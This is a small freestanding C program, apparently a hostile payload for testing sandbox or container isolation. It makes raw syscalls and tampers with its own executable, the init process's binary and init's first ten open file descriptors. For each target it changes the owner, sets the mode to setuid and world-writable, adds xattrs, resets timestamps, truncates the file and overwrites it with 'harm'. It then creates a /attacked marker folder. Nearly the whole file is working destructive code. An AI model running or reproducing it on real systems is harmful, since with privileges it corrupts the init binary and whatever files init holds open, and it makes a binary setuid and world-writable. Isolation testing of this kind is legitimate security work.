/* Changes all that can be changed of the file that its process was started from, and of what the first process has, and
   makes the folder /attacked. It needs no library, so that it can be a loader itself. */
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/syscall.h>

static long call(long number, long a, long b, long c, long d, long e) {
#if defined(__aarch64__)
    register long x8 asm("x8") = number, x0 asm("x0") = a, x1 asm("x1") = b, x2 asm("x2") = c, x3 asm("x3") = d, x4 asm("x4") = e;
    asm volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3), "r"(x4) : "memory");
    return x0;
#else
    long answer;
    register long r10 asm("r10") = d, r8 asm("r8") = e;
    asm volatile("syscall" : "=a"(answer) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8) : "rcx", "r11", "memory");
    return answer;
#endif
}

static void attack(const char *path) {
    long at = AT_FDCWD, file = (long)path;
    call(SYS_fchownat, at, file, 1, 1, 0);
    call(SYS_fchmodat, at, file, 04777, 0, 0);
    call(SYS_setxattr, file, (long)"user.harm", (long)"harm", 4, 0);
    call(SYS_setxattr, file, (long)"trusted.harm", (long)"harm", 4, 0);
    call(SYS_utimensat, at, file, (long)&(long[4]){1, 0, 1, 0}, 0, 0);
    call(SYS_truncate, file, 1, 0, 0, 0);
    long opened = call(SYS_openat, at, file, O_WRONLY, 0, 0);
    if (opened >= 0) call(SYS_write, opened, (long)"harm", 4, 0, 0);
}

void _start(void) {
    attack("/proc/self/exe");
    attack("/proc/1/exe");
    char of_first[] = "/proc/1/fd/0";
    for (char digit = '0'; digit <= '9'; digit++) {
        of_first[sizeof of_first - 2] = digit;
        attack(of_first);
    }
    call(SYS_mkdirat, AT_FDCWD, (long)"/attacked", 0755, 0, 0);
    call(SYS_exit_group, 0, 0, 0, 0, 0);
}
